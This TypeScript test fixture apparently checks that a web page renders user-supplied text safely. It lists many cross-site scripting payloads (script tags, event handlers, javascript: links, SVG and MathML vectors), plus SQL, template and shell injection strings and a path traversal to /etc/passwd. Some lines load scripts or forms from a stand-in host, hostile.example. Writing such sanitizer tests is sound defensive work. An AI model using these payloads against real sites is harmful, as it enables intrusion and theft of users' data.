// Texts that would do harm if a page took them for anything but text: by category, each a line of its own.
//
// What runs anywhere calls hit(), which no page defines and the tests listen for, or asks hostile.example, which no page
// may ask. Texts that the record refuses (ledger.md, Conventions: controls, line separators, direction marks, the byte order mark) stand
// apart in `refused`.
const run = "hit()";

/** Handlers of elements that fire by themselves or with a little help. */
const handlers = [
  ...["img src=x onerror", "svg onload", "body onload", "input autofocus onfocus"],
  ...["select autofocus onfocus", "textarea autofocus onfocus", "video src=x onerror"],
  ...["audio src=x onerror", "details open ontoggle", "marquee onstart", "iframe onload"],
  ...["object data=x onerror", "embed src=x onload", "style onload", "link rel=stylesheet onload"],
  ...["p onpointerover", "p onmouseenter", "p onanimationstart", "p ontransitionend"],
  ...["form onsubmit", "button onclick", "keygen autofocus onfocus", "img src=x OnErRoR"],
  ...["video onloadstart src=x", "source onerror src=x", "dialog open onclose"],
].map((head) => `<${head}="${run}">`);

const scripts = [
  `<script>${run}</script>`,
  `<ScRiPt>${run}</sCrIpT>`,
  `<script src=//hostile.example/a.js></script>`,
  `<script/src=data:,${run}></script>`,
  `<script\t>${run}</script\t>`,
  `</script><script>${run}</script>`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `<script type=module>import("//hostile.example/m.js")</script>`,
  `<script type="text/html"><img src=x onerror=${run}></script>`,
  `"><script>${run}</script>`,
  `'><script>${run}</script>`,
  `--><script>${run}</script>`,
  `]]><script>${run}</script>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<title></title><script>${run}</script>`,
  `<textarea></textarea><script>${run}</script>`,
  `<!--<img src="--><img src=x onerror=${run}//">`,
  `<template><script>${run}</script></template>`,
];

/** Breaking out of attributes and tags. */
const breaks = [
  `" onmouseover="${run}`,
  `' onmouseover='${run}`,
  "` onmouseover=`hit()",
  `" autofocus onfocus="${run}" x="`,
  `x" style="animation-name:x" onanimationstart="${run}`,
  `javascript:${run}//" onclick="${run}`,
  `"><img src=x onerror=${run}>`,
  `'"><svg/onload=${run}>`,
  `<img src="x\`onerror=${run}\`">`,
  `<img """><script>${run}</script>">`,
  `<a href="x" onclick=${run}>tap</a>`,
  `<a href=javascript:${run}>tap</a>`,
  `<img src=x:x onerror=${run} <b>x</b>`,
  `<img/src=x/onerror=${run}>`,
  `<img src onerror=${run} `,
  `<<img src=x onerror=${run}>>`,
  "</div></main></body></html><h1>gone</h1>",
  "</textarea></form><form action=//hostile.example><input name=a>",
];

/** Links and pictures of Markdown to what is no page. */
const links = [
  `[tap](javascript:${run})`,
  `[tap](JaVaScRiPt:${run})`,
  `[tap](javascript&colon;${run})`,
  `[tap](javascript&#58;${run})`,
  `[tap](java&#115;cript:${run})`,
  `[tap](&#x6A;avascript:${run})`,
  `[tap](javascript:%68it())`,
  `[tap](<javascript:${run}>)`,
  `[tap]( javascript:${run})`,
  `[tap](data:text/html,<script>${run}</script>)`,
  `[tap](data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==)`,
  `[tap](vbscript:${run})`,
  `[tap](file:///etc/passwd)`,
  `[tap](blob:https://hostile.example/1)`,
  `[tap](//hostile.example/a)`,
  `[tap](\\\\hostile.example\\a)`,
  `[tap](https://hostile.example/" onmouseover="${run})`,
  `[tap](https://hostile.example/ "title\\" onmouseover=\\"${run}")`,
  `![x](javascript:${run})`,
  "![x](https://hostile.example/spy.gif)",
  `![x](x" onerror="${run})`,
  `![x](data:image/svg+xml,<svg onload=${run}>)`,
  `![<img src=x onerror=${run}>](x)`,
  `[<img src=x onerror=${run}>](https://hostile.example)`,
  `[![x](javascript:${run})](javascript:${run})`,
  `<javascript:${run}>`,
  "<https://hostile.example/<script>>",
  `<data:text/html,${run}>`,
  `<a@b.c"onmouseover="${run}>`,
  "www.hostile.example/<img>",
  `https://hostile.example/'onmouseover='${run}'`,
  `mailto:a@b.c?subject=<script>${run}</script>`,
];

const references = [
  `[tap][evil] [evil]: javascript:${run}`,
  `[evil]: javascript:${run} "x"`,
  `[__proto__]: javascript:${run}`,
  "[constructor][]",
  "[toString]",
  `[tap][__proto__]`,
  `[^1]: <script>${run}</script>`,
  `[x]: <javascript:${run}>`,
];

/** Marks of Markdown within marks, and where parsers lose count. */
const nested = [
  "**__*_~~`**__*_~~`".repeat(2),
  `**<img src=x onerror=${run}>**`,
  `*[**<svg onload=${run}>**](javascript:${run})*`,
  `\`<script>${run}</script>\``,
  `\`\`\` \`<script>${run}</script>\` \`\`\``,
  `> > > > <script>${run}</script>`,
  `- - - - <img src=x onerror=${run}>`,
  `# <img src=x onerror=${run}>`,
  `| <img src=x onerror=${run}> | b | |---|---|`,
  `1. <svg onload=${run}>`,
  `[[[[[[[[[[x]]]]]]]]]](((((javascript:${run})))))`,
  "![[![[![[![[x]]]]]]]]",
  "~~~~~~~~ ** ~~~~~~~~",
  "&lt;script&gt;hit()&lt;/script&gt;",
  `\\<script>${run}\\</script>`,
  `<div markdown="1">**x**<script>${run}</script></div>`,
  "((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((",
  "****************************************************************",
];

const entities = [
  "&#60;script&#62;hit()&#60;/script&#62;",
  "&#x3C;img src=x onerror=hit()&#x3E;",
  "&#0000060;script&#0000062;hit()",
  "&lt;img src=x onerror=hit()&gt;",
  "&amp;lt;script&amp;gt;hit()",
  "&quot;onmouseover=&quot;hit()",
  "&NewLine;&Tab;&colon;&lpar;&rpar;",
  "&nosuchentity; &#9999999; &#xD800; &#0;",
  "\\u003cscript\\u003ehit()\\u003c/script\\u003e",
  "\\x3cimg src=x onerror=hit()\\x3e",
  "%3Cscript%3Ehit()%3C/script%3E",
  "+ADw-script+AD4-hit()+ADw-/script+AD4-",
];

const drawings = [
  `<svg><script>${run}</script></svg>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  `<svg><set attributeName=href to=javascript:${run}>`,
  `<svg><a xlink:href="javascript:${run}"><text y=20>tap</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${run}>#x"></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>${run}</script>"></foreignObject></svg>`,
  `<svg><style><img src=x onerror=${run}></style></svg>`,
  `<svg><image href=x onerror=${run}></svg>`,
  `<math><maction actiontype=statusline xlink:href=javascript:${run}>tap</math>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${run}>`,
  `<math href="javascript:${run}">tap</math>`,
  `<math><annotation-xml encoding="text/html"><script>${run}</script>`,
];

const styles = [
  "<style>*{display:none!important}</style>",
  "<style>@import '//hostile.example/a.css';</style>",
  "<link rel=stylesheet href=//hostile.example/a.css>",
  `<p style="position:fixed;inset:0;background:red">over all</p>`,
  `<p style="background:url(//hostile.example/a.png)">x</p>`,
  `<p style="width:expression(${run})">x</p>`,
  "</style><style>body{visibility:hidden}",
  "color:red;}</style><b>x",
  "<base href=//hostile.example/>",
  `<meta http-equiv=refresh content="0;url=//hostile.example">`,
];

const templates = [
  "{{constructor.constructor('hit()')()}}",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is the text that is tested
  "${hit()}",
  "#{hit()}",
  "<%= hit() %>",
  "{%raw%}{{hit()}}{%endraw%}",
  "{ $hit }",
  '{ "__html": "<img src=x onerror=hit()>" }',
  "{{{hit()}}}",
  "[[hit()]]",
  "@{hit()}",
  "%s %n %x %d %p",
  "'; DROP TABLE members; --",
  "$(hit) `hit` | hit && hit",
  "../../../../etc/passwd",
];

const keys = [
  ...["__proto__", "constructor", "prototype", "hasOwnProperty", "toString", "valueOf"],
  ...["null", "undefined", "NaN", "true", "-0", "1e999", "[object Object]", "{}", "[]"],
];

/** Letters that change what a line looks like without being refused. */
const letters = [
  "\u05d0\u05d1\u05d2 \u05e9\u05dc\u05d5\u05dd (1) abc",
  "\u0645\u0631\u062d\u0628\u0627 \u0628\u0627\u0644\u0639\u0627\u0644\u0645 12:30",
  "abc \u05e9\u05dc\u05d5\u05dd def \u0645\u0631\u062d\u0628\u0627 ghi",
  "\u200fright-to-left mark at the front",
  "a\u200eb\u200ec left-to-right marks",
  "\u061carabic letter mark",
  "zero\u200bwidth\u200bspace",
  "zero\u200cwidth\u200dnon\u2060joiner",
  "soft\u00adhyphen\u00adin\u00adwords",
  "\u0440\u0430\u0443\u0440\u0430l in letters of another alphabet",
  "\u0405\u0441\u0440\u0456\u0440\u0442 \u0391\u0392\u0395\u0396 \u0410\u0412\u0421",
  "\uff1cscript\uff1ehit()\uff1c/script\uff1e",
  "\u2039img src=x onerror=hit()\u203a",
  "\u02bascript\u02ba \u2032x\u2033",
  "\u{1d4c8}\u{1d4b8}\u{1d4c7}\u{1d4be}\u{1d4c5}\u{1d4c9}",
  "e\u0301e\u0300e\u0302e\u0323 two ways of writing",
  "Z\u0351\u036b\u0343\u0367a\u0305\u030f\u0313l\u0321\u035b\u034eg\u0327\u034d\u0350o\u0309\u0310!",
  `H${"\u0336\u0337\u0334\u0335".repeat(6)}e${"\u0300\u0316".repeat(10)}`,
  "\u{1f469}\u200d\u{1f469}\u200d\u{1f467}\u200d\u{1f466} \u{1f3f4}\u200d\u2620\ufe0f",
  "\u{1f44d}\u{1f3fd}\u{1f44d}\u{1f3ff} \u{1f1e7}\u{1f1ea} \u0031\ufe0f\u20e3",
  "\u{e0061}\u{e0062} tags \u{e007f}",
  "\ufffd replacement, \ufffc object, \ufff9 annotation",
  "\ufdfd \ufdfa \u0bcc \u{12031}",
  "\u3164\u115f\u1160\uffa0 fillers",
  "\ue000\uf8ff\u{f0000} private",
  "\u{1f4a9}".repeat(20),
  "\u2003\u2009\u3000 wide spaces \u00a0\u202f narrow",
  "\u00ab\u00a0Bonjour\u00a0!\u00a0\u00bb",
  "\u1e9e\u0130\u0131\u017f capitals that grow",
  "\u0e01\u0e33\u0e49\u0e33\u0e49\u0e33 stacked",
];

const long = [
  "a".repeat(75),
  "W".repeat(75),
  `https://hostile.example/${"x".repeat(50)}`,
  "\u4e2d".repeat(60),
  "ffi\u00ad".repeat(18),
  "-".repeat(75),
  "_".repeat(75),
  "1234567890".repeat(7),
  "\u0e01".repeat(75),
  "<".repeat(60),
];

export const payloads: Record<string, string[]> = {
  script: scripts,
  handlers,
  breaks,
  links,
  references,
  nested,
  entities,
  drawings,
  styles,
  templates,
  keys,
  letters,
  long,
};
export const harmful: string[] = [...new Set(Object.values(payloads).flat())].map((text) =>
  text.normalize("NFC").replaceAll("\t", " ").trim(),
);

/** What no text may hold: the place where it stands within the text does not matter. */
export const refused: string[] = [
  ..."\u0000\u0001\u0008\u000b\u000c\u001b\u001f\u007f\u0085\u009f".split(""),
  ..."\u2028\u2029\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\ufeff".split(""),
].map((mark) => `fac${mark}ture`);

/** What a page holds that no text may have made: read in the page. */
export function findHarm(): string[] {
  const found: string[] = [];
  const main = document.querySelector("main");
  for (const one of document.body.querySelectorAll("*")) {
    for (const { name, value } of one.attributes) {
      if (name.startsWith("on")) found.push(`<${one.tagName} ${name}="${value}">`);
      if (/^(href|src|action|data|xlink:href|formaction|srcdoc|style)$/.test(name))
        if (/^\s*(javascript|data|vbscript|blob|file):/i.test(value) || name === "srcdoc")
          found.push(`<${one.tagName} ${name}="${value}">`);
    }
    const never =
      /^(script|iframe|object|embed|style|link|meta|base|frame|math|marquee|video|audio)$/i;
    if (never.test(one.tagName) && main?.contains(one)) found.push(`<${one.tagName}>`);
    if (one.tagName === "IMG" && !/^\/|^blob:/.test(one.getAttribute("src") ?? ""))
      found.push(`<img src=${one.getAttribute("src")}>`);
  }
  // A text in another direction stays within itself.
  const walker = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
  for (let node = walker.nextNode(); node; node = walker.nextNode()) {
    const at = node.parentElement;
    if (!/[\u0590-\u06ff]/.test(node.textContent ?? "")) continue;
    if (!at?.closest("bdi, [dir], option, title"))
      found.push(`not isolated in <${at?.tagName} class="${at?.className}">`);
  }
  return found;
}

/** The innermost elements that stand out of the window. */
export function findWide(): string {
  const out = [...document.body.querySelectorAll("main *")].filter(
    (one) => one.getBoundingClientRect().right > document.documentElement.clientWidth + 1,
  );
  return out
    .filter((one) => !out.some((other) => other !== one && one.contains(other)))
    .map((one) => {
      const above = one.closest("[class]:not(bdi)");
      return `<${one.tagName}> in .${above?.className}: ${one.textContent?.slice(0, 60)}`;
    })
    .slice(0, 4)
    .join(" ");
}
